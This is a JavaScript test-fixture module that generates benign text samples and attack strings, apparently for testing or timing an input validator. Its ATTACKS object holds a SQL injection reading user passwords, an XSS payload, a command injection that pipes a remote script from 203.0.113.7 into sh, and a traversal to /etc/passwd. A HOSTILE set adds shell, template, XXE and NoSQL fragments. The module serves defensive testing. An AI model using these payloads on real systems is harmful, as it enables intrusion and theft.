// Values to judge. Every text is made here, of the same words each time: repeatable, and nobody's.
const WORDS = (
  'the poll opens on Monday and closes when all votes are in, so please send yours before noon; our office (second floor) ' +
  'is open from 9:30 to 17:00. "Thank you," said Ada, "I\'ll order by phone and select a table for 4." Prices start at 12.50 EUR, ' +
  'less 5% for members & friends: see section 3/4 or write to polls@example.com. It is not a drop in the ocean, is it?'
).split(' ');

/** As a JSON parser gives it: characters of its own, not a piece of another string. */
const own = (text) => JSON.parse(JSON.stringify(text));
const repeat = (unit, length) => own(unit.repeat(Math.ceil(length / unit.length)).slice(0, length));

function prose(length) {
  let text = '';
  for (let i = 0; text.length < length; i = (i + 7) % WORDS.length) text += `${WORDS[i]} `;
  return own(text.slice(0, length));
}

const MARKDOWN =
  '## Casting a vote\n\nCall `castVote(poll, choice)` and wait:\n\n```js\nconst vote = await castVote({ poll: "spring", choice });\nif (!vote.ok) throw new Error(vote.reason);\n```\n\n| field | type |\n|---|---|\n| `poll` | string |\n\nSee [the guide](https://example.com/guide#votes) and **read it**.\n\n';
const HTML =
  '<article class="news"><h2>Results</h2><p style="color:#333">Blue wins with <b>52 %</b>; see <a href="https://example.com/r?id=7&amp;p=2">the table</a>.</p><img src="https://example.com/a.png" alt="chart"><br/></article>\n';
const JSON_TEXT =
  '{"id":"v-1029","poll":{"name":"Spring 2026","tags":["a","b"]},"url":"https://example.com/p/1","note":"it\'s fine","n":[1,2,3.5]},';
const BASE64 = Buffer.from(prose(512)).toString('base64');

/** What honest people and programs send. */
export const BENIGN = {
  words: (length) => repeat('a plain sentence of ordinary words that people write every day ', length),
  prose,
  markdown: (length) => repeat(MARKDOWN, length),
  html: (length) => repeat(HTML, length),
  json: (length) => repeat(JSON_TEXT, length),
  base64: (length) => repeat(BASE64, length),
};

/** One attack at its end: nothing before it helps. In front of a path stands a path, for a sentence would lead nowhere. */
const PAYLOADS = {
  sqli: "' UNION SELECT name, password FROM users-- ",
  xss: '<img src=x onerror=alert(document.domain)>',
  cmdi: '; curl http://203.0.113.7/x | sh',
  traversal: '../../../../../../etc/passwd',
};
export const ATTACKS = Object.fromEntries(
  Object.entries(PAYLOADS).map(([name, payload]) => [
    name,
    (length) =>
      length <= payload.length
        ? payload
        : own(
            (name === 'traversal' ? repeat('uploads/', length - payload.length) : prose(length - payload.length)) +
              payload,
          ),
  ]),
);

/** What costs most: each begins a grammar at every few characters and never ends one. */
export const HOSTILE = {
  quotes: (length) => repeat(`'"\``, length),
  'sql words': (length) => repeat("' or select union (1 and ", length),
  tags: (length) => repeat('<a b=c <svg/on', length),
  shell: (length) => repeat('; $(x `id` || ${a:-b} ', length),
  paths: (length) => repeat('../%2e%2e/..\\', length),
  urls: (length) => repeat('http://a@[::1]:80/?u=http://', length),
  templates: (length) => repeat('{{7*7}} ${x} <%= #{', length),
  escapes: (length) => repeat('\\u0027&#39;\\x27%27\uff07', length),
  json: (length) => repeat('{"$gt":[{"a":', length),
  xml: (length) => repeat('<!DOCTYPE a [<!ENTITY b SYSTEM "', length),
  mixed: (length) => repeat(`'<a onload="../;$(\`{{%00&#x27;\\u0027 or 1=1 http://127.1/ `, length),
};
